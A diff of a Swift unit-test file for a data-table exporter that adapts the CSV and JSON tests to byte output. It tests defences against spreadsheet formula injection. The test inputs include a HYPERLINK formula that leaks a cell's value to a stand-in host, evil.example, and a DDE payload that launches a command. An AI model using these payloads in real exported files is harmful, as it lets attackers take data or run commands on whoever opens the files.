@@ -15,7 +15,7 @@ final class DataTableTests: XCTestCase {
     /// RFC 4180: CRLF rows, a cell with a comma, quote or line break quoted
     /// and its quotes doubled; a decimal point and ISO dates for machines.
     func testCSVQuotesWhatNeedsQuotingAndWritesNumbersForMachines() {
-        XCTAssertEqual(table.csv(), "teks,jumlah,nilai,tanggal\r\n\"Sistem, Mekanisme, dan Prosedur\",1250,3.5,2025-09-08\r\n\"kata \"\"kutip\"\"\nbaris baru\tdan tab\",,,\r\n")
+        XCTAssertEqual(String(decoding: table.csv(), as: UTF8.self), "teks,jumlah,nilai,tanggal\r\n\"Sistem, Mekanisme, dan Prosedur\",1250,3.5,2025-09-08\r\n\"kata \"\"kutip\"\"\nbaris baru\tdan tab\",,,\r\n")
     }
 
     /// A comma or a quote followed by a combining mark is one Swift
@@ -37,16 +37,16 @@ final class DataTableTests: XCTestCase {
                                 rows: [[.text(formula)], [.text("+1+cmd|' /C calc'!A0")], [.text("-2+3")], [.text("@SUM(A1)")],
                                        [.text("\t=1")], [.text("\r=1")], [.text("-12,5")], [.text("+62")], [.text("-")], [.text("a=b")],
                                        [.text("=" + "\u{301}" + "1+1")]])
-        XCTAssertEqual(hostile.csv().components(separatedBy: "\r\n").dropFirst().dropLast(), [
+        XCTAssertEqual(String(decoding: hostile.csv(), as: UTF8.self).components(separatedBy: "\r\n").dropFirst().dropLast(), [
             "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A3,\"\"Klik\"\")\"", "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)",
             "'\t=1", "\"'\r=1\"", "\"-12,5\"", "+62", "-", "a=b", "'=\u{301}1+1",
         ])
-        let json = try XCTUnwrap(JSONSerialization.jsonObject(with: Data(hostile.json().utf8)) as? [[String: String]])
+        let json = try XCTUnwrap(JSONSerialization.jsonObject(with: hostile.json()) as? [[String: String]])
         XCTAssertEqual(json.first?["teks"], formula)
     }
 
     func testJSONIsAnArrayOfObjectsWithTypedValuesAndNulls() throws {
-        let json = table.json()
+        let json = String(decoding: table.json(), as: UTF8.self)
         XCTAssertTrue(json.contains(#"{"teks": "Sistem, Mekanisme, dan Prosedur", "jumlah": 1250, "nilai": 3.5, "tanggal": "2025-09-08"}"#), json)
         let parsed = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [[String: Any]])
         XCTAssertEqual(parsed[1]["teks"] as? String, "kata \"kutip\"\nbaris baru\tdan tab")
